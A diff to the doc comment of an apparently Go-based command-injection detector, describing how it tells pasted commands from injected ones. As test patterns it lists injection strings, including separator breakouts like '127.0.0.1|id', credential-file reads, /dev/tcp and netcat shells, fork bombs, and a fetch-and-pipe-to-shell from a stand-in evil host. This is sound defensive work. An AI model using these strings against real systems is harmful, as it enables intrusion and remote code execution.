@@ -26,7 +26,18 @@ import (
 //   - inside $(...), <(...) and >(...) any listed command counts;
 //   - prefix commands (time, nohup, sudo, env...) hand the position to the next word;
 //   - a shell (sh, bash...) that a pipe feeds ("x|sh") or that stands alone after a
-//     separator runs whatever came before or comes next.
+//     separator runs whatever came before or comes next;
+//   - after the first separator of a value that opens with a probe token (nothing, a
+//     number, an IP address, a host name, one lower-case letter or digit:
+//     "127.0.0.1|id", "1|ls", "x & ver", "8.8.8.8&net user"), the separator is a breakout
+//     however it is spelt, glued or apart, and even if the rest reads as prose: a
+//     bare-able command matches with any argument ("127.0.0.1;ps aux"), recon words that
+//     are English too (set, ver, vol) alone, and every listed command with shell
+//     arguments (timeout /t 5, choice /t 5, certutil.exe -decode). A word before it
+//     ("name|id", "Tom & Jerry") or a capital ("R&D", "A&W") is no probe token.
+//
+// A trailing comment ends a command as the value's end does ("127.0.0.1;id #",
+// ";id//"); a ".exe" suffix names the same command (curl.exe).
 //
 // The start of a value has no breakout, so a whole command line there is judged by what
 // it does, not by what it is: "ls -la", "tar -xzf site.tar.gz", "git status" or
@@ -36,13 +47,27 @@ import (
 // interpreter running inline code (python -c, bash -c), a command on a system location
 // (cat /etc/passwd, ls -l /root), a redirection into a script file (echo ... > x.php),
 // Windows account and registry changes (net user, reg add HKLM\...), a binary by
-// absolute path, a pipe into a shell (curl ... | bash), or a command word written with
-// evasions. The same rule applies to every command of a value whose separators are the
+// absolute path with arguments (or a recon binary alone: /usr/bin/id; "/bin/sh" alone is
+// a path, as in a container's command array), a pipe into a shell (curl ... | bash), or
+// a command word written with evasions. The same rule applies to every command of a value whose separators are the
 // writer's own rather than a breakout: prose (a forum post or ticket with a sentence in
 // it, markdown inline code), shebang scripts, and a value that is a command line from
 // its first word ("cd /var/www && ls -la"). So a shell snippet quoted in a post passes
-// while "\ncat /etc/passwd", "x; id" and "ls; cat /etc/shadow" do not. The price: a
-// webshell run as "?cmd=ls -la" or "?cmd=ansible-inventory --list" is not flagged.
+// while "\ncat /etc/passwd", "x; id" and "ls; cat /etc/shadow" do not.
+//
+// What tells a pasted command line from an injection is where the command stands: a
+// value, a line of a post or the cells of a markdown table ("| id | name |") that open
+// with it are the writer's own; a separator after a token of data is a breakout. So on
+// the writer's own lines a published installer piped into a shell passes (curl or wget
+// with options and one https URL on a named host, to standard output: the rustup, nvm,
+// nodesource and Homebrew one-liners, also as bash -c "$(curl ...)"), a $(...) that is
+// an argument of a command line with options is judged as a command opening a value
+// ("docker run -v $(pwd):/app", "--user $(id -u)"), and batch IF/FOR statements in a
+// post or script are not flagged by themselves. An http URL, an address, an output
+// file or an expansion in the fetch, or the same line after a breakout
+// ("x;curl https://sh.rustup.rs | sh"), still matches. The price: a webshell run as
+// "?cmd=ls -la", "?cmd=ansible-inventory --list" or "?cmd=curl https://evil.example/x|sh"
+// is not flagged.
 //
 // Command words are read the way a shell reads them, so evasions fold away: quotes and
 // backslashes inside a word (c'a't, who\ami, ""p""y""t""h""o""n, $'who'ami), empty expansions and
@@ -53,9 +78,11 @@ import (
 // variable used as the command name before arguments ($a -nlvp 555 after a=nc) matches.
 //
 // Constructs that are commands wherever they appear also match: /dev/tcp/ redirections,
-// the Shellshock prefix "() {", fork bombs, ${IFS}, cmd /c, PowerShell cmdlets that fetch
-// or run code, Windows batch FOR/IF statements, options that make a program run a
-// command (ssh -oProxyCommand=, git --upload-pack=, c89 -wrapper sh,...), bash parameter
+// the Shellshock prefix "() {", fork bombs, ${IFS}, cmd /c and %COMSPEC% /c, PowerShell
+// cmdlets that fetch or run code, Windows batch FOR/IF statements, options that make a
+// program run a command (ssh -oProxyCommand=, git --upload-pack=, tar
+// --checkpoint-action=exec=, c89 -wrapper sh,...), the command string of sh -c given
+// alone ("-c id"), brace expansion of a timing probe ({sleep,5}), bash parameter
 // expansion operators used for evasion (${PATH:0:1}, ${x#...}), and mail protocol
 // commands injected after a line break (SMTP MAIL FROM:, RCPT TO:, AUTH with an
 // initial response, POP3 RETR and LIST n, IMAP tagged commands).
@@ -63,7 +90,8 @@ import (
 // Deliberately not matched: filter expressions of REST query languages
 // ("created_at<2024-01-01;id>100", "status==open;ps>2": a field compared to a value, not
 // a command redirected into a file), listed words in prose ("cat food; dog food", "Tom & Jerry",
-// "red;$5 each", "Java | Python", "net user growth"), markdown inline code (`ls -la`),
+// "red;$5 each", "Java | Python", "net user growth"), field lists and pairs of data
+// ("name|id", "sort=name|id", "1|true", "0;false", "R&D", "A&W"), markdown inline code (`ls -la`),
 // jQuery $(...), make variables $(CC), template literals ${name} and defaults
 // ${PORT:-8080}, JavaScript stack traces ("\n    at f (x.js:1:2)"), GraphQL selections,
 // random tokens whose punctuation happens to spell a redirection (sensor data) and
